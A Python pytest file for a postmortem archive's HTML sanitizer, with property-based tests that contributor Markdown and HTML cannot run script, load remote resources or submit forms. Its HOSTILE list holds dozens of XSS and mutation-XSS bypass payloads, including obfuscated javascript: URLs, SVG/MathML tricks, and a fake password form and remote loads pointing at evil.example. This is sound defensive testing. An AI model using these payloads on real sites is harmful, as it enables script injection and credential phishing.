"""Nothing that a contributor writes can run, embed, submit, restyle or ask another host; documents stay whole."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from postmortem_archive.site.sanitizing import escape_anchor, escape_title, sanitize_page
from tests.support.markdown import python_markdown
from tests.support.sites import Page, fetched, is_elsewhere

HOSTILE = [
    "<script>x()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>x()</scr</script>ipt>",
    "<script\x0btype=module>x()</script>",
    "<img src=x onerror=x()>",
    "<img src=x OnErRoR=x()>",
    "<img/src=x/onerror=x()>",
    '<a href="#" onclick="x()" onmouseover=x()>a</a>',
    "<details open ontoggle=x()>a</details>",
    "<p onpointerover=x() tabindex=1 autofocus onfocus=x()>a</p>",
    '<a href="javascript:x()">a</a>',
    '<a href="JaVaScRiPt:x()">a</a>',
    '<a href=" javascript:x()">a</a>',
    '<a href="java&#09;script:x()">a</a>',
    '<a href="java&#10;script:x()">a</a>',
    '<a href="&#1;javascript:x()">a</a>',
    '<a href="&#106;&#97;vascript:x()">a</a>',
    '<a href="javascript&colon;x()">a</a>',
    '<a href="vbscript:x()">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD54KCk8L3NjcmlwdD4=">a</a>',
    '<a href="blob:https://x/y">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<img src="data:image/svg+xml,<svg onload=x()>">',
    "<svg onload=x()><circle r=1></svg>",
    "<svg><script>x()</script></svg>",
    "<svg><a xlink:href='javascript:x()'><text>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=x()>#x'></use></svg>",
    "<svg><animate attributeName=href values=javascript:x() /></svg>",
    "<svg><set attributeName=onmouseover to=x()></svg>",
    "<svg><foreignObject><iframe src=javascript:x()></iframe></foreignObject></svg>",
    "<svg><image href='https://evil.example/x.png'></image></svg>",
    "<svg><style><img src=x onerror=x()></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=x()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">',
    "<math><mi//xlink:href='data:x,<script>x()</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x()>",
    '<noscript><p title="</noscript><img src=x onerror=x()>">',
    "<style>*{display:none}</style>",
    "<style>@import url(https://evil.example/x.css)</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">a</p>',
    '<td style="background:url(https://evil.example/x)">a</td>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>x()</script>"></iframe>',
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=password type=password><button>Log in</button></form>",
    '<input type=image src=x onerror=x()><button formaction="javascript:x()">a</button>',
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<div id="__config">{}</div>',
    '<a id="__md_scope"></a><a id="__md_get"></a><input id="__drawer"><p id="__search"></p><p id="__palette_1"></p>',
    '<p id="__toc"></p><a id="__anything"></a><label for="__drawer">a</label>',
    '<div id="pm-search-results"></div><input id="home-q">',
    '<img srcset="https://evil.example/x.png 2x" src=x.png>',
    "<picture><source srcset=https://evil.example/x></picture>",
    "<img src=https://evil.example/x.png>",
    "<img src=//evil.example/x.png>",
    '<img src="/\\evil.example/x.png">',
    '<img src="\\\\evil.example/x.png">',
    '<img src="/&#9;/evil.example/x.png">',
    '<img src="&#10;//evil.example/x.png">',
    '<img src=" //evil.example/x.png">',
    '<img src="HTTPS:evil.example/x.png">',
    "<video src=https://evil.example/x poster=https://evil.example/y></video><audio src=https://evil.example/z>",
    '<a href="https://example.org" ping="https://evil.example" target="_top">a</a>',
    '<p data-md-component="palette" data-pagefind-meta="title:x" data-base="//evil.example">a</p>',
    "<template><script>x()</script></template>",
    "<textarea></textarea><script>x()</script>",
    "<xmp><script>x()</script></xmp><plaintext><script>x()",
    "<!--><script>x()</script>-->",
    "<![CDATA[<script>x()</script>]]>",
    "<?xml version='1.0'?><script>x()</script>",
    "<dialog open>a</dialog><marquee onstart=x()>a</marquee>",
    "<a href='https://example.org' rel='opener'>a</a>",
    "&lt;script&gt;x()&lt;/script&gt;",
    "<div contenteditable autofocus popover=auto>a</div>",
]
ATTRIBUTES = re.compile(
    r"on.*|data-.*|srcset|ping|target|action|formaction|contenteditable|autofocus|popover|poster|srcdoc"
)
ELEMENTS = {
    *("script", "style", "iframe", "object", "embed", "form", "button", "base", "meta", "link", "template", "textarea"),
    *(
        "math",
        "use",
        "animate",
        "set",
        "image",
        "foreignobject",
        "video",
        "audio",
        "source",
        "picture",
        "dialog",
        "noscript",
    ),
}


def harmless(html: str) -> None:
    page = Page.of(html)
    for tag, attributes in page.elements:
        assert tag not in ELEMENTS, html
        for name, value in attributes.items():
            assert not ATTRIBUTES.fullmatch(name), html
            address = re.sub(r"[\t\n\r]", "", value).lstrip("".join(map(chr, range(33)))).casefold()
            assert name not in ("href", "src") or not address.startswith(
                ("javascript:", "vbscript:", "data:", "blob:", "file:")
            ), html
            assert name != "style" or re.fullmatch(r"\s*text-align:\s*\w+;?\s*", value), html
            assert name not in ("id", "name", "for") or not value.startswith(("pm-search", "home-q")), html
            assert (
                name not in ("id", "name", "for")
                or not value.startswith("__")
                or value.startswith(("__tabbed_", "__code", "__span"))
            ), html
    assert not [url for url in fetched(page) if is_elsewhere(url)], html


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left(html: str):
    done = sanitize_page(html)
    harmless(done)
    assert sanitize_page(done) == done


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left_when_it_comes_through_markdown(html: str):
    harmless(sanitize_page(python_markdown(f"Text {html}\n\n{html}\n\n- {html}\n\n> {html}\n")))


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:x())",
        "[a](<java\tscript:x()>)",
        "<javascript:x()>",
        "![a](https://evil.example/x.png)",
        "# a {: #__config onclick=x() }",
        "a {: style='position:fixed' onmouseover=x() }",
        '<div markdown onclick="x()">*a*</div>',
        "[a]: javascript:x()\n\n[a]",
    ],
)
def test_nothing_hostile_is_made_of_markdown(text: str):
    harmless(sanitize_page(python_markdown(text)))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4), st.integers(0, 60))
def test_nothing_hostile_is_left_of_them_nested_and_cut(snippets: list[str], cut: int):
    html = snippets[0]
    for snippet in snippets[1:]:
        html = snippet[:cut] + html + snippet[cut:]
    done = sanitize_page(html)
    harmless(done)
    harmless(sanitize_page(done))


def kept(text: str) -> list[tuple[str, dict[str, str]]]:
    """The elements that the engine makes of a text, all of which must be left."""
    html = python_markdown(text)
    before, after = Page.of(html), Page.of(sanitize_page(html))
    elements = [(tag, attributes) for tag, attributes in after.elements if tag != "tbody" or "<tbody>" in html]
    assert [tag for tag, _ in elements] == [tag for tag, _ in before.elements]
    for (tag, old), (_, new) in zip(before.elements, elements, strict=True):
        assert {name: value for name, value in new.items() if name != "rel"} == {
            name: new.get(name, "") if name == "style" else value
            for name, value in old.items()
            if name != "rel" and (tag, name) != ("a", "name") and not name.startswith("data-")
        }
    assert after.text == before.text
    return after.elements


@pytest.mark.parametrize(
    ("text", "marks"),
    [
        ('!!! warning "Careful"\n\n    Text\n', {"div": "admonition warning", "p": "admonition-title"}),
        ("??? note\n\n    Text\n", {"details": "note", "summary": ""}),
        ("???+ note\n\n    Text\n", {"details": "note"}),
        ("- [ ] open\n- [x] done\n", {"input": "", "li": "task-list-item"}),
        ("Text[^1].\n\n[^1]: Note.\n", {"sup": "", "div": "footnote"}),
        ("| A | B |\n|:--|--:|\n| 1 | 2 |\n", {"table": "", "td": ""}),
        ("## Head\n\nText\n", {"a": "headerlink"}),
        ("```python linenums='1'\nx = 1\n```\n", {"table": "highlighttable", "td": "linenos"}),
        ("```yaml\na: 1\n```\n", {"span": "nt", "pre": ""}),
        ("`#!python x = 1`\n", {"code": "highlight"}),
        ("Term\n:   Meaning\n", {"dl": "", "dt": "", "dd": ""}),
        ("~~gone~~\n", {"del": ""}),
        ("3. three\n4. four\n", {"ol": ""}),
        ("https://example.org and <a@example.org>\n", {"a": ""}),
    ],
)
def test_what_the_engine_makes_of_documents_is_left(text: str, marks: dict[str, str]):
    elements = kept(text)
    for tag, name in marks.items():
        assert any(tag == element and name in attributes.get("class", "") for element, attributes in elements), (
            tag,
            name,
        )


def test_alignment_of_table_cells_is_left():
    html = sanitize_page(python_markdown("| A | B |\n|:-:|--:|\n| 1 | 2 |\n"))
    assert re.findall(r"text-align: ?(\w+)", html) == ["center", "right"] * 2


def test_content_tabs_are_left():
    html = (
        '<div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" '
        'name="__tabbed_1" type="radio"><input id="__tabbed_1_2" name="__tabbed_1" type="radio">'
        '<div class="tabbed-labels"><label for="__tabbed_1_1">A</label><label for="__tabbed_1_2">B</label></div>'
        '<div class="tabbed-content"><div class="tabbed-block"><p>a</p></div></div></div>'
    )
    done = Page.of(sanitize_page(html))
    assert [a["id"] for tag, a in done.elements if tag == "input"] == ["__tabbed_1_1", "__tabbed_1_2"]
    assert [a["for"] for tag, a in done.elements if tag == "label"] == ["__tabbed_1_1", "__tabbed_1_2"]
    assert {a["name"] for tag, a in done.elements if tag == "input"} == {"__tabbed_1"}


def test_anchors_of_code_lines_are_left():
    html = sanitize_page(python_markdown("```python linenums='1'\nx = 1\ny = 2\n```\n"))
    ids = Page.of(html).ids
    assert {"__codelineno-0-1", "__codelineno-0-2"} <= ids
    assert 'href="#__codelineno-0-2"' in html


@pytest.mark.parametrize(
    "url",
    [
        "https://example.org/a?b=1#c",
        "http://example.org",
        "mailto:a@example.org",
        "../other/",
        "#impact",
        "shot.png",
        "/from/the/top/",
        "a:b/../c.html"[2:],
    ],
)
def test_links_are_left(url: str):
    assert f'href="{url}"' in sanitize_page(f'<a href="{url}">a</a>')


def test_images_of_the_site_are_left():
    assert 'src="../2026/shot.png"' in sanitize_page('<img src="../2026/shot.png" alt="a">')


def test_links_to_others_tell_them_nothing():
    assert 'rel="noopener noreferrer"' in sanitize_page('<a href="https://example.org">a</a>')


@pytest.mark.parametrize(
    "name",
    ["pm-archive", "PM-Search", "md-overlay", "md-skip", "md-dialog--active", "mermaid", "pagefind-ui", "arithmatex"],
)
def test_classes_that_scripts_and_the_theme_go_by_are_not_for_contributors(name: str):
    for space in (" ", "\t", "&#10;", "&#12;"):
        done = sanitize_page(f'<div class="a{space}{name}{space}b">x</div>', ())
        assert Page.of(done).elements == [("div", {"class": "a b"})]


def test_classes_of_documents_are_left():
    classes = "highlight linenos tabbed-set admonition warning task-list-item footnote headerlink md-button grid cards"
    assert f'class="{classes}"' in sanitize_page(f'<p class="{classes}">x</p>', ())


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<input>", {"type": "checkbox", "disabled": ""}),
        ("<input name=password>", {"type": "checkbox", "disabled": ""}),
        ("<input type=text checked>", {"type": "checkbox", "checked": "", "disabled": ""}),
        ("<input type=radio name=x>", {"type": "checkbox", "disabled": ""}),
        ('<input title=\' type="radio" name="__tabbed_1\'>', {"type": "checkbox", "disabled": ""}),
        ("<p title='<input>'>", {"title": "<input>"}),
    ],
)
def test_inputs_are_boxes_that_nobody_can_fill(html: str, expected: dict[str, str]):
    done = sanitize_page(html)
    assert [attributes for _, attributes in Page.of(done).elements] == [expected]


OWN = (
    '<form class="pm-home-search" action="archive/" method="get" role="search"><label for="home-q">a</label>'
    '<input id="home-q" name="q" type="search" placeholder="b" autocomplete="off"><button type="submit">c</button>'
    '</form><div class="pm-archive" data-base=".."><section aria-label="d"><meter min="0" max="2" value="1" '
    'aria-label="e"></meter></section></div><div class="pm-scroll" tabindex="0" role="group" aria-label="f"></div>'
)


def test_what_our_templates_need_is_left_in_their_blocks_and_nowhere_else():
    done = sanitize_page(f"{OWN}<!--pm0-->", (("<!--pm0-->", OWN),))
    assert done.endswith(OWN)
    theirs = Page.of(done.removesuffix(OWN)).elements
    assert not {"form", "button", "meter"} & {tag for tag, _ in theirs}
    assert not [attributes for _, attributes in theirs if "data-base" in attributes or "pm-" in str(attributes)]


@pytest.mark.parametrize(
    "html",
    [
        "<p title='&lt;!--pm0--&gt;'>x</p><!--pm0-->",
        "<details><summary>x</summary><!--pm0-->",
        "<svg><!--pm0-->",
        "<!--pm0-->",
    ],
)
def test_a_block_stands_once_and_whole_whatever_is_around_it(html: str):
    done = sanitize_page(html, (("<!--pm0-->", '<p class="pm-record">facts</p>'),))
    assert [attributes for _, attributes in Page.of(done).elements].count({"class": "pm-record"}) == 1
    assert done.count("facts") == 1


@pytest.mark.parametrize(
    "html", ["<div title='\n\n<!--pm0-->\n\n'>", "<p class='a <!--pm0--> b", "<style>\n\n<!--pm0-->"]
)
def test_a_block_never_stands_in_what_somebody_left_open(html: str):
    block = '<ul class="pm-list"><li>facts</li></ul>'
    done = sanitize_page(html, (("<!--pm0-->", block),))
    assert done.count(block) == 1
    assert {"class": "pm-list"} in [attributes for _, attributes in Page.of(done).elements]
    assert "facts" in Page.of(done).text


def test_what_a_block_says_is_no_mark():
    blocks = (
        ("<!--pm0-->", "<p>0</p>"),
        ("<!--pm1-->", "<p><!--pm0--></p>"),
    )
    assert sanitize_page("<!--pm1--><!--pm0-->", blocks) == "<p><!--pm0--></p><p>0</p>"


def test_comments_are_for_who_reads_the_source():
    done = sanitize_page("<p>a</p><!-- not for readers --><!--pm0-->", (("<!--pm0-->", "<p>b</p>"),))
    assert done == "<p>a</p><p>b</p>"


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_hostile_is_left_around_our_blocks(html: str):
    for done in (
        sanitize_page(html, ()),
        sanitize_page(f"{html}<!--pm0-->{html}", (("<!--pm0-->", "<p>a</p>"),)),
    ):
        page = Page.of(done)
        assert not {tag for tag, _ in page.elements} & ELEMENTS, done
        assert not [url for url in fetched(page) if is_elsewhere(url)], done
        assert not [name for _, attributes in page.elements for name in attributes if name.startswith("on")], done


@pytest.mark.parametrize(
    "text", ["a <b>b</b>", "&lt;script&gt;", '"><script>x</script>', "Ω & 'q'", "<code>a&amp;b</code>"]
)
def test_contents_are_escaped_once_however_often(text: str):
    title, anchor = escape_title(text), escape_anchor(text)
    assert not set('<>"') & set(title + anchor)
    assert (escape_title(title), escape_anchor(anchor)) == (title, anchor)
